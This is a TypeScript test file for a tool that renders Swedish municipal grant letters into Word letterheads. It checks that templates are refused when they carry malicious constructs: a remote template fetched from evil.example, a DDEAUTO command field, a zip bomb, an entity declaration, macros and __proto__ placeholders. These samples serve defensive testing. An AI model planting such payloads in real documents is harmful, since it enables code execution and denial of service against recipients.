import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { parseFile } from '@radrum/knowledge';
import { describe, expect, it } from 'vitest';
import { checkLetterhead, fillTemplate, renderDocx, renderLetters } from './index.ts';
import { plainLetterhead } from './plain-letterhead.ts';
import { grantDecision, grantValues } from '../../../test/grant-template.ts';

const filled = fillTemplate(grantDecision, grantValues);
const names = grantDecision.fields.map(({ name }) => name);

/** The plain document with another body, other relations or more parts: a municipality's own. */
async function letterhead(
  body: string,
  more: Record<string, Uint8Array> = {},
  change = (xml: string) => xml,
): Promise<Uint8Array> {
  const parts = unzipSync(await plainLetterhead('sv'));
  const document = strFromU8(parts['word/document.xml'] ?? new Uint8Array());
  const styles = strFromU8(parts['word/styles.xml'] ?? new Uint8Array());
  const relations = strFromU8(parts['word/_rels/document.xml.rels'] ?? new Uint8Array());
  return zipSync({
    ...parts,
    'word/document.xml': strToU8(document.replace(/(<w:body>)[^]*?(?=<w:sectPr)/, `$1${body}`)),
    'word/styles.xml': strToU8(
      styles.replace(
        '</w:styles>',
        '<w:style w:type="paragraph" w:styleId="Kommunens"><w:name w:val="Kommunens ingress"/></w:style></w:styles>',
      ),
    ),
    'word/_rels/document.xml.rels': strToU8(change(relations)),
    ...more,
  });
}
const p = (text: string, style = ''): string =>
  `<w:p>${style === '' ? '' : `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>`}${text
    .split('|')
    .map((run) => `<w:r><w:t xml:space="preserve">${run}</w:t></w:r>`)
    .join('')}</w:p>`;

const own = () =>
  letterhead(
    [
      p('Lindviks kommun, dnr {{ärende|nummer}}', 'Kommunens'),
      p('{{innehåll}}'),
      p('{{#villkor}}'),
      p('Villkor: {{villkor}}'),
      p('{{/villkor}}'),
      p('Hälsningar {{handläggare}}', 'Kommunens'),
    ].join(''),
  );

describe('a letter', () => {
  it('without a template of the municipality’s own is a plain Word document that is read again', async () => {
    const file = await parseFile(await renderDocx(filled), { name: 'beslut.docx' });
    expect(file.title).toBe('Beslut om bidrag till Lindviks Båtklubb & Co <Ö>');
    const text = JSON.stringify(file.blocks);
    expect(text).toContain('Ni får 12\u00a0400\u00a0kronor.');
    expect(file.blocks).toContainEqual({ type: 'list', ordered: false, items: ['Handläggare: Karin Exempel'] });
    expect(text).not.toContain('{{');
    expect(file.language).toBe('sv');
  });

  it('in the municipality’s own keeps its styles, its head and its foot', async () => {
    const head = await own();
    expect(checkLetterhead(head, names)).toEqual({
      placeholders: expect.arrayContaining(['ärendenummer', 'innehåll', 'villkor', 'handläggare']),
      hasContent: true,
      problems: [],
    });
    const bytes = await renderDocx(filled, head);
    const [before, after] = [unzipSync(head), unzipSync(bytes)];
    expect(after['word/styles.xml']).toEqual(before['word/styles.xml']);
    expect(Object.keys(after).sort()).toEqual(Object.keys(before).sort());
    const xml = strFromU8(after['word/document.xml'] ?? new Uint8Array());
    expect(xml.match(/w:pStyle w:val="Kommunens"/g)).toHaveLength(2);
    expect(xml).toContain('w:pStyle w:val="Heading1"');
    const file = await parseFile(bytes, { name: 'a.docx' });
    const text = JSON.stringify(file.blocks);
    expect(text).toContain('Lindviks kommun, dnr KFN 2026/118');
    expect(text).toContain('Hälsningar Karin Exempel');
    expect(text).not.toContain('Villkor:');
    const withTerms = await renderDocx(
      fillTemplate(grantDecision, { ...grantValues, villkor: 'Redovisa\nsenast i maj' }),
      head,
    );
    expect(JSON.stringify((await parseFile(withTerms, { name: 'a.docx' })).blocks)).toContain('Villkor: Redovisa');
  });

  it('marks what a municipality’s own asks for and the template does not have', async () => {
    const head = await letterhead(p('{{innehåll}}') + p('Ort: {{ort}}'));
    expect(checkLetterhead(head, names).problems).toMatchObject([{ code: 'unknown_field' }]);
    const file = await parseFile(await renderDocx(filled, head), { name: 'a.docx' });
    expect(JSON.stringify(file.blocks)).toContain('Ort: [SAKNAS: ort]');
  });

  it('is not written into a template that is broken or does harm', async () => {
    const relation = (type: string) => (xml: string) =>
      xml.replace(
        '</Relationships>',
        `<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
      );
    const bomb = zipSync({ '[Content_Types].xml': new Uint8Array(80 * 1024 * 1024) }, { level: 9 });
    const cases: [string, Uint8Array][] = [
      ['broken_mark', await letterhead(p('{{innehåll') + p('x'))],
      ['broken_mark', await letterhead(p('före {{innehåll}} efter'))],
      ['broken_mark', await letterhead(p('{{#villkor}}') + p('x'))],
      ['no_placeholder', await letterhead(p('Tomt'))],
      ['macros', await letterhead(p('{{innehåll}}'), { 'word/vbaProject.bin': strToU8('x') })],
      ['embedded', await letterhead(p('{{innehåll}}'), { 'word/embeddings/a.bin': strToU8('x') })],
      ['external', await letterhead(p('{{innehåll}}'), {}, relation('attachedTemplate'))],
      ['external', await letterhead(p('{{innehåll}}'), {}, relation('image'))],
      ['damaged', await letterhead(`<!DOCTYPE x [<!ENTITY a "b">]>${p('{{innehåll}}')}`)],
      ['too_complex', bomb],
      ['too_complex', await letterhead(p('{{villkor}} '.repeat(5_000)))],
      ['too_complex', await letterhead(p('x'.repeat(4_000_000)))],
      [
        'external',
        await letterhead(
          '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r></w:p>',
        ),
      ],
      ['too_large', new Uint8Array(11 * 1024 * 1024)],
      ['damaged', (await own()).slice(0, 900)],
      ['unknown_format', strToU8('inget dokument')],
    ];
    for (const [code, bytes] of cases) {
      const { problems } = checkLetterhead(bytes, names);
      expect([problems[0]?.code]).toEqual([code]);
      expect(problems[0]?.words.sv).toMatch(/\.$/);
      if (code !== 'no_placeholder')
        await expect(renderDocx(filled, bytes)).rejects.toMatchObject({ name: 'FileRefused' });
    }
    expect(checkLetterhead(await letterhead(p('{{innehåll}}'), {}, relation('hyperlink'))).problems).toEqual([]);
  });

  it('cannot reach anything but its fields', async () => {
    const head = await letterhead(p('{{innehåll}}') + p('{{constructor}} {{toString}} {{__proto__}}'));
    const file = await parseFile(await renderDocx(filled, head), { name: 'a.docx' });
    expect(JSON.stringify(file.blocks)).toContain('[SAKNAS: constructor] [SAKNAS: toString] [SAKNAS: __proto__]');
  });
});

describe('many letters', () => {
  const many = ['Alfa', 'Beta', 'Gamma'].map((name) => fillTemplate(grantDecision, { ...grantValues, förening: name }));

  it('are files of their own and one document, each on a page', async () => {
    const { files, joined, problems } = await renderLetters(many, await own(), {
      name: (at) => `Beslut ${'ABC'[at]}/1`,
    });
    expect(problems).toEqual([]);
    const single = unzipSync(files);
    expect(Object.keys(single)).toEqual(['001 Beslut A 1.docx', '002 Beslut B 1.docx', '003 Beslut C 1.docx']);
    const second = await parseFile(single['002 Beslut B 1.docx'] ?? new Uint8Array(), { name: 'b.docx' });
    expect(second.title).toBe('Beslut om bidrag till Beta');
    const all = await parseFile(joined ?? new Uint8Array(), { name: 'alla.docx' });
    expect(all.blocks.filter((block) => block.type === 'heading').map(({ text }) => text)).toEqual(
      ['Alfa', 'Beta', 'Gamma'].map((name) => `Beslut om bidrag till ${name}`),
    );
    const xml = strFromU8(unzipSync(joined ?? new Uint8Array())['word/document.xml'] ?? new Uint8Array());
    expect(xml.match(/w:br w:type="page"/g)).toHaveLength(2);
    expect(xml.match(/<w:sectPr/g)).toHaveLength(1);
  });

  it('whose heads differ are only files of their own, and say so', async () => {
    const plain = unzipSync(await own());
    const footer = Object.keys(plain).find((name) => /footer\d+\.xml$/.test(name)) ?? '';
    const xml = strFromU8(plain[footer] ?? new Uint8Array());
    const head = zipSync({
      ...plain,
      [footer]: strToU8(xml.replace('</w:p>', '<w:r><w:t>{{förening}}</w:t></w:r></w:p>')),
    });
    const { joined, problems } = await renderLetters(many, head);
    expect(joined).toBeNull();
    expect(problems).toMatchObject([{ code: 'differing_heads' }]);
  });
});
